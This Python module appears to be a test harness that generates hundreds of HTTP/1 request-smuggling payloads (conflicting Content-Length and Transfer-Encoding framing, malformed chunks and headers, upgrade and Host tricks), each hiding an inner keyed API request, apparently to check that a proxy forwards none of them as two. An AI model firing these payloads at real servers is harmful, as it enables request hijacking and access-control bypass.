"""Payloads of HTTP/1: each is one request, or none, to whoever reads it by the rules. None of them is two.

A payload hides an inner request, complete and with a key that is good: were it ever taken for a request of its own,
the provider would get it, and its target would tell. It stands where a parser looks that counts wrongly: in a body,
behind a head whose framing contradicts itself, within a chunk, a chunk's extension, a header.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

MODEL = "claude-opus-4-5-20251101"
BODY = json.dumps({"model": MODEL, "max_tokens": 8, "messages": [{"role": "user", "content": "x"}]}).encode()
_CL, _TE = b"Content-Length", b"Transfer-Encoding"
_CHUNKED = b"Transfer-Encoding: chunked"


@dataclass(frozen=True)
class Payload:
    """What is written on a connection; `@ID@`, `@KEY@` and `@HOST@` are filled in, each of a known length."""

    family: str
    data: bytes

    def filled(self, number: int, key: str, host: str) -> bytes:
        """The bytes. What is filled in is as long as what a length in the payload counted."""
        return _filled(self.data, f"{number:0{_ID}}", key, host)


_ID = 12
_KEY = 52
"""Characters of a key, as goproxy makes them."""

_HOST = len("chat.example.org")


def _filled(data: bytes, number: str, key: str, host: str) -> bytes:
    if len(key) != _KEY or len(host) != _HOST or len(number) != _ID:
        raise ValueError(f"the lengths in the payloads are for a key of {_KEY} and a host of {_HOST} characters")
    return data.replace(b"@ID@", number.encode()).replace(b"@KEY@", key.encode()).replace(b"@HOST@", host.encode())


def _size(data: bytes) -> int:
    return len(_filled(data, "0" * _ID, "k" * _KEY, "h" * _HOST))


INNER = (
    b"POST /v1/chat/completions?beta=inner-@ID@ HTTP/1.1\r\nHost: @HOST@\r\nx-api-key: @KEY@\r\n"
    b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%b" % (len(BODY), BODY)
)
_OUTER = b"POST /v1/messages?beta=outer-@ID@ HTTP/1.1"
_USUAL = (b"Host: @HOST@", b"x-api-key: @KEY@", b"Content-Type: application/json")


def _head(*headers: bytes, line: bytes = _OUTER, usual: Iterable[bytes] = _USUAL) -> bytes:
    return b"\r\n".join([line, *usual, *headers]) + b"\r\n\r\n"


def _length(data: bytes | int) -> bytes:
    return b"Content-Length: %d" % (data if isinstance(data, int) else _size(data))


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (_size(data), data)


_END = b"0\r\n\r\n"
_WHOLE = _chunk(BODY) + _END


def _contradictions() -> Iterator[bytes]:
    """CL.TE and TE.CL: both framings in one head, in either order, each of which ends elsewhere."""
    body = _WHOLE + INNER
    for chunked in (
        _CHUNKED,
        b"transfer-encoding: Chunked",
        b"TRANSFER-ENCODING:chunked",
        b"Transfer-Encoding:\tchunked",
    ):
        for length in (0, 4, _size(_WHOLE), _size(body)):
            yield _head(_length(length), chunked) + body
            yield _head(chunked, _length(length)) + body
    for hidden in (_chunk(INNER) + _END, _chunk(b"x" * 3) + _chunk(INNER) + _END, _END + INNER):
        for length in (3, 4, 5, _size(hidden)):
            yield _head(_CHUNKED, _length(length)) + hidden
            yield _head(_length(length), _length(length), _CHUNKED) + hidden


_ODD_CODINGS = (
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: cow",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chun\tked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\x7f",
    b"Transfer-Encoding: \xffchunked",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: \xef\xbb\xbfchunked",
    b"Transfer-Encoding: chun\xc4\xb8ed",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: \r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked",
    b"Transfer-Encoding\r\n : chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding: x\nchunked",
    b"Transfer-Encoding: chunked\rX: y",
    b"Transfer_Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-\xc4\xb0ncoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:: chunked",
    b"Transfer-Encoding; chunked",
    b"X-Transfer-Encoding: chunked",
    b"TE: chunked",
)


def _codings() -> Iterator[bytes]:
    """TE.TE: a coding that one reader understands and another does not, with a length that covers it all."""
    body = _WHOLE + INNER
    for coding in _ODD_CODINGS:
        yield _head(coding, _length(body)) + body
        yield _head(_length(body), coding) + body
        yield _head(_length(4), coding) + body[:4]


def _unlooked_for_bodies() -> Iterator[bytes]:
    """0.CL and CL.0: a body where a method or a path has none; who does not read it takes it for a request."""
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"PUT", b"TRACE", b"POST"):
        for path in (b"/v1/messages", b"/v1/models", b"/v1/nothing", b"/metrics", b"/v1/messages/"):
            line = b"%b %b?beta=outer-@ID@ HTTP/1.1" % (method, path)
            yield _head(_length(INNER), line=line) + INNER
            if method in (b"GET", b"HEAD"):
                yield _head(_CHUNKED, line=line) + _chunk(INNER) + _END


_REFUSED = (
    (b"Host: @HOST@",),  # without a key
    (b"Host: @HOST@", b"x-api-key: sk-troll-none"),
    (b"Host: @HOST@", b"Authorization: Basic eDp5"),
    (b"Host: @HOST@", b"Authorization: Bearer"),
    (*_USUAL, b"Content-Encoding: gzip"),
    (*_USUAL, b"Content-Encoding: br, identity"),
    (*_USUAL, b"anthropic-beta: \x01"),
    (b"Host: @HOST@", b"x-api-key: @KEY@", b"x-api-key: @KEY@"),
    (b"Host: @HOST@", b"x-api-key: @KEY@", b"Authorization: Bearer other"),
)


def _refused_early() -> Iterator[bytes]:
    """Requests that are refused before their body is read; with Expect, before it is sent."""
    for usual in _REFUSED:
        yield _head(_length(INNER), usual=usual) + INNER
        yield _head(_CHUNKED, usual=usual) + _chunk(INNER) + _END
        yield _head(_length(INNER), b"Connection: keep-alive", usual=usual) + INNER
        yield _head(_length(INNER), b"Expect: 100-continue", usual=usual) + INNER
        yield _head(_CHUNKED, b"Expect: 100-continue", usual=usual) + _chunk(INNER) + _END


def _expectations() -> Iterator[bytes]:
    """Expect, in all spellings."""
    for expect in (
        b"100-continue",
        b"100-Continue",
        b"100-continue, x",
        b"200-ok",
        b"x",
        b"",
        b"y 100-continue",
        b"100-continue\r\nExpect: 100-continue",
        b"100-continue\x00",
        b"\r\n 100-continue",
    ):
        yield _head(_length(INNER), b"Expect: " + expect) + INNER
        yield _head(b"Expect: " + expect, _CHUNKED) + _chunk(INNER) + _END


_ODD_LENGTHS = (
    b"%d, %d",
    b"%d,%d",
    b"%d, 0",
    b"0, %d",
    b"+%d",
    b"-%d",
    b"0x%x",
    b"%d %d",
    b"%d.0",
    b"%de0",
    b"%d;",
    b"'%d'",
    b'"%d"',
    b"",
    b" ",
    b"x",
    b"-0",
    b"+0",
    b"%d\x00",
    b"\x00%d",
    b"%d\x0b",
    b"\x0b%d",
    b"\x0c%d",
    b"%d\xa0",
    b"\xef\xbc\x95",
    b"\xd9\xa5",
    b"1_0",
    b"9" * 30,
    b"18446744073709551616",
    b"18446744073709551617",
    b"9223372036854775808",
    b"4294967296",
    b"%d\r\nContent-Length: 0",
    b"0\r\nContent-Length: %d",
    b"%d\r\nContent-Length: +%d",
    b"%d\r\nContent-Length:",
    b"%d\r\nContent-Length : 0",
    b"%d\r\n 0",
    b"\r\n %d",
    b"%d\rX: y",
    b"%d\nContent-Length: 0",
    b"%d\r\nContent_Length: 0",
    b"0\r\nX: y\nContent-Length: %d",
    b"%d\r\nContent-Length\x00: 0",
    b"%d\r\ncontent-length: 1",
)


def _lengths() -> Iterator[bytes]:
    """Lengths that are none, or more than one: the inner request is the body, or the next one."""
    for odd in _ODD_LENGTHS:
        count = odd.count(b"%d") + odd.count(b"%x")
        yield _head(b"Content-Length: " + odd % ((_size(INNER),) * count)) + INNER


_ODD_CHUNKS = (
    b"%x;@I@\r\n%b\r\n",
    b'%x;a="\r\n%b\r\n',
    b"%x;a=b\n%b\r\n",
    b"%x;a\rb\r\n%b\r\n",
    b"%x\n%b\r\n",
    b"%x\r\n%b\n",
    b"%x\r%b\r\n",
    b"%x\r\n%b",
    b"%x\r\n%bXX",
    b"%x\r\n%b\r\r",
    b" %x\r\n%b\r\n",
    b"\t%x\r\n%b\r\n",
    b"%x \r\n%b\r\n",
    b"0x%x\r\n%b\r\n",
    b"+%x\r\n%b\r\n",
    b"-%x\r\n%b\r\n",
    b"%x,1\r\n%b\r\n",
    b"%x 1\r\n%b\r\n",
    b"%xg\r\n%b\r\n",
    b"%x\x00\r\n%b\r\n",
    b"\x00%x\r\n%b\r\n",
    b"0_%x\r\n%b\r\n",
    b"\r\n%x\r\n%b\r\n",
    b"\n%x\r\n%b\r\n",
    b"%x\x0b\r\n%b\r\n",
    b"%x\xa0\r\n%b\r\n",
    b"0000000000000000000000000000000000000%x\r\n%b\r\n",
    b"1000000000000000%x\r\n%b\r\n",
    b"%x;" + b"e" * 20_000 + b"\r\n%b\r\n",
    b"%x" + b";e" * 5_000 + b"\r\n%b\r\n",
)


def _chunks() -> Iterator[bytes]:
    """Chunks that are badly cut: the inner request is a chunk, what follows one, an extension, a trailer."""
    for odd in _ODD_CHUNKS:
        at = odd.replace(b"%x", b"%%x", 0)
        if b"%x" in at:
            bad = at.replace(b"@I@", b"a=b") % (_size(INNER), INNER)
            yield _head(_CHUNKED) + bad + _END
            yield _head(_CHUNKED) + _chunk(BODY) + bad + _END
    for bad in (
        b"0\r\nX: y\r\n" + INNER,  # trailers, which it is not
        b"0;" + INNER,
        b"0\r\n" + INNER,
        b"0\n" + INNER,
        b"0\r" + INNER,
        b"0\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n" + INNER,
        b"00000\r\nX\r\n" + INNER,
        b"0\r\n\n" + INNER[:20],
        b"g\r\n\r\n" + INNER,
        b"\r\n\r\n" + INNER,
        b"-1\r\n" + INNER,
        b"\x00\r\n\r\n" + INNER,
    ):
        yield _head(_CHUNKED) + _chunk(BODY) + bad
        yield _head(_CHUNKED, b"Trailer: Content-Length") + _chunk(BODY) + bad


def _oversized() -> Iterator[bytes]:
    """Sizes that overflow somewhere, or ask for more memory than there is."""
    for size in (
        b"fffffff",
        b"7fffffff",
        b"80000000",
        b"ffffffff",
        b"100000000",
        b"7fffffffffffffff",
        b"8000000000000000",
        b"ffffffffffffffff",
        b"ffffffffffffffec",
        b"10000000000000000",
        b"1" + b"0" * 40,
    ):
        yield _head(_CHUNKED) + size + b"\r\n" + INNER
        yield _head(_CHUNKED) + _chunk(BODY) + size + b"\r\n" + INNER
    for length in (2**31 - 1, 2**31, 2**32, 2**63 - 1, 2**64 - 1):
        yield _head(_length(length)) + INNER
    yield _head(*(b"X-%d: y" % number for number in range(2000)), _length(INNER)) + INNER
    yield _head(b"X: " + b"y" * 100_000, _length(INNER)) + INNER
    yield _head(b"X" * 70_000 + b": y", _length(INNER)) + INNER
    yield _head(_length(INNER), line=b"POST /v1/messages?beta=outer-@ID@&x=%b HTTP/1.1" % (b"y" * 100_000)) + INNER
    yield _head(_length(INNER), line=b"P" * 50_000 + b" /v1/messages?beta=outer-@ID@ HTTP/1.1") + INNER


def _line_ends() -> Iterator[bytes]:
    """Bare LF, bare CR, folded lines: a header that begins for one reader only."""
    for sneaked in (_CHUNKED, b"Content-Length: 0", b"Host: other.example.org", b"Connection: close, X"):
        for between in (
            b"\n",
            b"\r",
            b"\r\n ",
            b"\r\n\t",
            b"\n ",
            b"\r\r\n",
            b"\n\r",
            b"\x00\r\n",
            b"\x85",
            b"\xe2\x80\xa8",
        ):
            yield _head(b"X: y" + between + sneaked, _length(INNER)) + INNER
    for end in (b"\r", b"\n\r", b"\r\r"):
        yield _head(_length(INNER)).replace(b"\r\n", end) + INNER
    yield _head(_length(INNER)).replace(b"\r\n", b"\n") + INNER


def _odd_names() -> Iterator[bytes]:
    """Names with a space, an underscore or a control: framing for one reader, nothing for another."""
    for odd in (
        b"%b ",
        b"%b\t",
        b" %b",
        b"\t%b",
        b"%b\x00",
        b"\x00%b",
        b"%b\x0b",
        b"\x0b%b",
        b"%b\x7f",
        b"%b\xa0",
        b"(%b)",
        b"%b,",
    ):
        for name, value in ((_CL, b"0"), (_TE, b"chunked"), (b"Host", b"other.example.org"), (b"x-api-key", b"x")):
            yield _head(odd % name + b": " + value, _length(INNER)) + INNER
    for name in (
        b"Content_Length",
        b"Content Length",
        b"content.length",
        b"CONTENT-LENGTH\xc4\xb1",
        b"Content-Length[]",
        b"",
    ):
        yield _head(name + b": 0", _length(INNER)) + INNER
    for bad in (
        b"no colon",
        b":",
        b": x",
        b"X",
        b"=",
        b"\x00",
        b"\xff: \xff",
        b"X:\x00",
        b"X: \x01\x02",
        b"@: x",
        b"\x1b[2J: x",
    ):
        yield _head(bad, _length(INNER)) + INNER


def _versions() -> Iterator[bytes]:
    """HTTP/1.0 with a coding, versions that there are not, and none."""
    for version in (
        b"HTTP/1.0",
        b"HTTP/0.9",
        b"HTTP/1.2",
        b"HTTP/2.0",
        b"HTTP/2",
        b"HTTP/3.0",
        b"HTTP/1.10",
        b"HTTP/01.1",
    ):
        line = b"POST /v1/messages?beta=outer-@ID@ " + version
        if version not in (b"HTTP/1.2", b"HTTP/1.10"):  # these may be read as 1.1, and what follows as the next request
            yield _head(_CHUNKED, line=line) + _WHOLE + INNER
            yield _head(_CHUNKED, b"Connection: keep-alive", line=line) + _WHOLE + INNER
        yield _head(_length(INNER), b"Connection: keep-alive", line=line) + INNER
    for version in (
        b"",
        b" ",
        b" http/1.1",
        b" HTTP/1.1x",
        b" HTTP/ 1.1",
        b" HTTP/1",
        b" HTTP/1.",
        b" HTTPS/1.1",
        b" XTTP/1.1",
        b" HTTP/1.1 HTTP/1.1",
        b"\tHTTP/1.1",
        b"  HTTP/1.1",
        b" HTTP/1.1 ",
        b" HTTP\\1.1",
        b" HTTP/1.1\x00",
        b" ICE/1.0",
        b" RTSP/1.0",
    ):
        yield _head(_length(INNER), line=b"POST /v1/messages?beta=outer-@ID@" + version) + INNER


def _upgrades() -> Iterator[bytes]:
    """Upgrades, of which there are none here, with a body that a tunnel would pass on."""
    for headers in (
        (
            b"Connection: Upgrade",
            b"Upgrade: websocket",
            b"Sec-WebSocket-Version: 13",
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        ),
        (b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 777"),
        (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"),
        (b"Connection: Upgrade", b"Upgrade: h2c"),
        (b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"),
        (b"Connection: Upgrade", b"Upgrade: TLS/1.0"),
        (b"Connection: keep-alive, upgrade", b"Upgrade: x/1, y/2"),
        (b"Connection: Upgrade", b"Upgrade: \x00"),
    ):
        yield _head(*headers, _length(INNER)) + INNER
        yield _head(*headers, _CHUNKED) + _chunk(INNER) + _END
        yield _head(*headers, _length(INNER), line=b"GET /v1/models?beta=outer-@ID@ HTTP/1.1") + INNER
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + INNER
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00" + INNER
    yield _head(_length(INNER), line=b"CONNECT @HOST@:443 HTTP/1.1") + INNER
    yield _head(_length(INNER), line=b"CONNECT /v1/messages?beta=outer-@ID@ HTTP/1.1") + INNER


def _nominations() -> Iterator[bytes]:
    """Connection names a header that framing or identity hangs on, so that a proxy would leave it out."""
    for name in (
        b"Content-Length",
        b"Transfer-Encoding",
        b"Host",
        b"x-api-key",
        b"close, Content-Length",
        b"Content-Type",
        b"X-Forwarded-For",
        b"\x00",
        b"a" * 5000,
        b"Expect",
    ):
        yield _head(b"Connection: " + name, _length(INNER)) + INNER
        yield _head(b"Connection: " + name, _CHUNKED) + _chunk(BODY) + _END
        yield _head(b"Connection: " + name, _length(BODY)) + BODY
    for header in (
        b"Keep-Alive: timeout=1000, max=0",
        b"Proxy-Connection: keep-alive",
        b"TE: trailers",
        b"Trailer: Host",
    ):
        yield _head(header, _length(INNER)) + INNER


def _targets() -> Iterator[bytes]:
    """Absolute and odd targets, controls and line ends in them, encoded or not."""
    for target in (
        b"http://@HOST@/v1/messages?beta=outer-@ID@",
        b"https://@HOST@/v1/messages?beta=outer-@ID@",
        b"HTTP://@HOST@/v1/messages?beta=outer-@ID@",
        b"http://other.example.org/v1/messages?beta=outer-@ID@",
        b"http://chat2.example.org/v1/messages?beta=outer-@ID@",
        b"http://@HOST@:1/v1/messages?beta=outer-@ID@",
        b"http://x@@HOST@/v1/messages?beta=outer-@ID@",
        b"http:///v1/messages?beta=outer-@ID@",
        b"http:/v1/messages?beta=outer-@ID@",
        b"ftp://@HOST@/v1/messages?beta=outer-@ID@",
        b"//@HOST@/v1/messages?beta=outer-@ID@",
        b"//v1/messages?beta=outer-@ID@",
        b"/\\@HOST@/v1/messages?beta=outer-@ID@",
        b"*",
        b"@HOST@:443",
        b"v1/messages?beta=outer-@ID@",
        b"?beta=outer-@ID@",
        b"#beta=outer-@ID@",
        b"/v1/messages?beta=outer-@ID@#x",
        b"/v1/messages?beta=outer-@ID@ x",
        b"/v1/messages?beta=outer-@ID@\tx",
        b"/v1/messages?beta=outer-@ID@\x00",
        b"/v1/messages?beta=outer-@ID@\rX",
        b"/v1/messages?beta=outer-@ID@\x7f",
        b"/v1/messages?beta=outer-@ID@\xff\xfe",
        b"/v1/messages?beta=outer-@ID@%0d%0a%0d%0aPOST%20/v1/messages",
        b"/v1/messages?beta=outer-@ID@%00",
        b"/v1/messages%0d%0aX:%20y?beta=outer-@ID@",
        b"/v1/messages%20HTTP/1.1%0d%0aX:y?beta=outer-@ID@",
        b"/v1/messages%00?beta=outer-@ID@",
        b"/v1/messages%2f?beta=outer-@ID@",
        b"/v1%2fmessages?beta=outer-@ID@",
        b"/v1/./messages?beta=outer-@ID@",
        b"/v1/x/../messages?beta=outer-@ID@",
        b"/v1/../metrics?beta=outer-@ID@",
        b"/v1/%2e%2e/metrics?beta=outer-@ID@",
        b"/v1/..;/metrics?beta=outer-@ID@",
        b"/v1//messages?beta=outer-@ID@",
        b"/v1/messages;x=y?beta=outer-@ID@",
        b"/V1/Messages?beta=outer-@ID@",
    ):
        yield _head(_length(INNER), line=b"POST %b HTTP/1.1" % target) + INNER
        yield _head(_length(BODY), line=b"POST %b HTTP/1.1" % target) + BODY
    for method in (
        b"post",
        b"POST\x00",
        b"POST:",
        b"PO ST",
        b"\x00POST",
        b"\rPOST",
        b" POST",
        b"\x16\x03\x01",
        b"X-Y",
        b"",
        b"POSTPOST",
        b"GE\tT",
    ):
        yield _head(_length(INNER), line=b"%b /v1/messages?beta=outer-@ID@ HTTP/1.1" % method) + INNER


def _hosts() -> Iterator[bytes]:
    """Two hosts, none, or one that is not a name; and the target's host beside it."""
    key = (b"x-api-key: @KEY@", b"Content-Type: application/json")
    for hosts in (
        (b"Host: @HOST@", b"Host: @HOST@"),
        (b"Host: @HOST@", b"Host: other.example.org"),
        (b"Host: other.example.org", b"Host: @HOST@"),
        (b"Host: @HOST@, other.example.org",),
        (b"Host: @HOST@ other.example.org",),
        (b"Host: @HOST@:1",),
        (b"Host: @HOST@:x",),
        (b"Host: @HOST@:",),
        (b"Host: @HOST@.",),
        (b"Host: x@@HOST@",),
        (b"Host: @HOST@/x",),
        (b"Host: @HOST@?x",),
        (b"Host: @HOST@#x",),
        (b"Host: @HOST@\x00",),
        (b"Host: @HOST@\\",),
        (b"Host: [::1]",),
        (b"Host: 127.0.0.1",),
        (b"Host: [@HOST@]",),
        (b"Host: chat2.example.org",),
        (b"Host: CHAT.example.org",),
        (b"Host:",),
        (b"Host: ",),
        (b"Host: @HOST@\r\n x",),
        (b"Host\r\n : @HOST@",),
        (b"Host : @HOST@",),
        (b" Host: @HOST@",),
        (b"Ho st: @HOST@",),
        (b"X: y\nHost: other.example.org", b"Host: @HOST@"),
        (),
    ):
        yield _head(_length(INNER), usual=(*hosts, *key)) + INNER
        yield _head(_length(BODY), usual=(*hosts, *key)) + BODY
    for line in (
        b"POST http://other.example.org/v1/messages?beta=outer-@ID@ HTTP/1.1",
        b"POST http://@HOST@/v1/messages?beta=outer-@ID@ HTTP/1.1",
    ):
        yield _head(_length(BODY), b"Host: chat2.example.org", usual=key, line=line) + BODY


FAMILIES = {
    "length and coding at once": _contradictions,
    "a coding that hides": _codings,
    "a body that nobody looks for": _unlooked_for_bodies,
    "refused before the body": _refused_early,
    "expect": _expectations,
    "odd lengths": _lengths,
    "odd chunks": _chunks,
    "oversized": _oversized,
    "line ends": _line_ends,
    "header names": _odd_names,
    "versions": _versions,
    "upgrades": _upgrades,
    "connection": _nominations,
    "targets": _targets,
    "hosts": _hosts,
}


def payloads() -> list[Payload]:
    """All of them, each once."""
    found = {data: family for family, make in FAMILIES.items() for data in make()}
    return [Payload(family, data) for data, family in found.items()]
